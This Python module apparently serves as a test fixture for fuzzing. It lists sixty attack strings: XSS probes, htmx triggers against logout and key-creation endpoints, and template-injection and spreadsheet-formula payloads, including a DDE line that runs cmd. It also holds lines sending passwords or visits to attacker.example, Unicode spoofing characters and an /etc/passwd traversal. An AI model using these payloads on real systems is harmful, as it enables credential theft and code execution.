"""Sixty texts that attackers write: markup, templates, htmx, formulas, and characters that hide."""

from __future__ import annotations

import itertools
from collections.abc import Iterator

MARK = 4242
"""What a script that runs would show in a dialog."""

PAYLOADS = (
    f"<script>alert({MARK})</script>",
    f"<img src=x onerror=alert({MARK})>",
    f"<svg onload=alert({MARK})>",
    f"<svg><script>alert({MARK})</script></svg>",
    f"<body onload=alert({MARK})>",
    f"<iframe src=javascript:alert({MARK})>",
    f"<iframe srcdoc='<script>alert({MARK})</script>'>",
    f"<a href=javascript:alert({MARK})>click</a>",
    f"<details open ontoggle=alert({MARK})>",
    f"<input autofocus onfocus=alert({MARK})>",
    f"<video><source onerror=alert({MARK})></video>",
    f"<math href=javascript:alert({MARK})>x</math>",
    f"<object data=javascript:alert({MARK})>",
    f"<form action=javascript:alert({MARK})><button>go",
    "<form action=//attacker.example><input name=password>",
    "<base href=//attacker.example/>",
    "<meta http-equiv=refresh content='0;url=//attacker.example'>",
    "<link rel=stylesheet href=//attacker.example/x.css>",
    "<style>*{display:none}</style>",
    "<img src=//attacker.example/pixel.gif>",
    f'"><script>alert({MARK})</script>',
    f"'><script>alert({MARK})</script>",
    f'" onmouseover="alert({MARK})" x="',
    f"' onfocus='alert({MARK})' autofocus x='",
    f"</title><script>alert({MARK})</script>",
    f"</textarea><script>alert({MARK})</script>",
    f"</option></select><img src=x onerror=alert({MARK})>",
    f"--><script>alert({MARK})</script><!--",
    f"]]><script>alert({MARK})</script>",
    f"javascript:alert({MARK})",
    f"data:text/html,<script>alert({MARK})</script>",
    "<div hx-get=/logout/ hx-trigger=load>x</div>",
    "<div hx-post=/settings/keys/new/ hx-trigger=revealed>",
    f"<div hx-on:click=alert({MARK})>",
    f"<b hx-on--load=alert({MARK})>x</b>",
    "<div hx-swap-oob=true id=content>gone</div>",
    '<div data-hx-get="/" data-hx-trigger="load">',
    "<template shadowrootmode=open><slot>",
    "{{ request.user.password }}{% debug %}",
    "${7*7}#{7*7}<%= 7*7 %>{{7*7}}",
    f"<ScRiPt>alert({MARK})</sCrIpT>",
    f"<scr<script>ipt>alert({MARK})</scr</script>ipt>",
    f"&lt;script&gt;alert({MARK})&lt;/script&gt;",
    f"&#60;script&#62;alert({MARK})&#60;/script&#62;",
    f"\uff1cscript\uff1ealert({MARK})\uff1c/script\uff1e",
    f"<img\tsrc=x\nonerror\r=alert({MARK})>",
    '=HYPERLINK("//attacker.example","pay")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "[click](javascript:alert(1)) **bold** https://attacker.example",
    "invoice\u202efdp.exe",
    "\u2066left\u2069\u2067right\u2069",
    "zero\u200bwidth\u200cjoin\u200der\ufeff",
    "\x1b[31mred\x1b[0m\x1b]8;;//attacker.example\x07link\x1b]8;;\x07",
    "bell\x07back\x08space\x7fdelete\x85next",
    "line\u2028separator\u2029paragraph",
    "tag\U000e0041\U000e0042characters",
    "g\u043e\u043egle.com \u0440aypal.com",
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334algo" + "\u0336" * 20,
    "\u3164\u115f\u2800\u00ad",
    "\ud7ff\ue000\ufffd\U0010fffd../../../../etc/passwd%00",
)


def endless(start: int = 0) -> Iterator[str]:
    """Yield the payloads again and again, beginning with the given one."""
    return itertools.islice(itertools.cycle(PAYLOADS), start % len(PAYLOADS), None)
